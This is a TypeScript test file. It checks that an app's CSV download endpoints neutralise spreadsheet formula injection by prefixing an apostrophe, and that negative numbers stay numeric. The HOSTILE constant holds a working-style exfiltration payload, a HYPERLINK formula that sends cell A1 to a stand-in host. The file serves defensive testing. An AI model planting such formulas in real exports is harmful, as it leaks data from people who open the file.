// CSV formula injection (OWASP): a unit whose name is a spreadsheet formula comes out of every
// CSV download as text, a leading apostrophe before it, while negative numbers stay numbers.
import { describe, expect, it } from 'vitest'
import { TEST_DIALECTS } from '../test/create-test-db.ts'
import { insertCohortScenario } from '../test/insert-fixtures.ts'
import { useTestApp } from '../test/use-test-app.ts'
import { storeAllActivity } from '../cohorts/store-cohort-activity.ts'

const HOSTILE = '=HYPERLINK("http://x?leak="&A1,"click")'
/** The name as a CSV field: apostrophe first, then quoted (it holds quotes and a comma). */
const NEUTRALISED = `"'=HYPERLINK(""http://x?leak=""&A1,""click"")"`

const decode = async (res: Response) =>
  new TextDecoder('utf-8', { ignoreBOM: true }).decode(await res.arrayBuffer())

for (const dialect of TEST_DIALECTS) {
  describe(`CSV downloads neutralise formula-leading cells (${dialect})`, () => {
    const ctx = useTestApp(dialect, async (db) => {
      await insertCohortScenario(db)
      await db
        .updateTable('unit')
        .set({ name: HOSTILE })
        .where('code', '=', 'LONG_AN.THANH_HOA')
        .execute()
      // Renamed outside the write path: the rows derived from the name are rebuilt as a restore
      // rebuilds them.
      await storeAllActivity(db)
    })

    it.each([
      ['units', '/api/units?parent=LONG_AN&kind=DISTRICT&format=csv'],
      ['rankings', '/api/rankings?parent=LONG_AN&kind=DISTRICT&year=2023&format=csv'],
      ['rank history', '/api/rankings/history?parent=LONG_AN&kind=DISTRICT&format=csv'],
      ['compare', '/api/compare?units=LONG_AN.THANH_HOA,LONG_AN.DUC_HOA&format=csv'],
      ['tasks', '/api/tasks?parent=LONG_AN&kind=DISTRICT&year=2023&format=csv'],
      ['awards', '/api/awards?parent=LONG_AN&kind=DISTRICT&year=2023&format=csv'],
    ])('%s', async (_name, url) => {
      const res = await ctx.app.request(url)
      expect(res.status).toBe(200)
      expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8')
      const text = await decode(res)
      expect(text.startsWith('\uFEFF')).toBe(true)
      expect(text).toContain(`,${NEUTRALISED},`)
      // No cell of the file starts with the formula itself.
      expect(text).not.toMatch(/(^|[,\r\n])"?=HYPERLINK/)
    })

    it('keeps negative numbers numeric (rank changes)', async () => {
      const res = await ctx.app.request(
        '/api/rankings?parent=LONG_AN&kind=DISTRICT&year=2023&format=csv',
      )
      const text = await decode(res)
      expect(text).toMatch(/,-\d+(,|\r\n)/)
      expect(text).not.toContain(",'-")
    })
  })
}
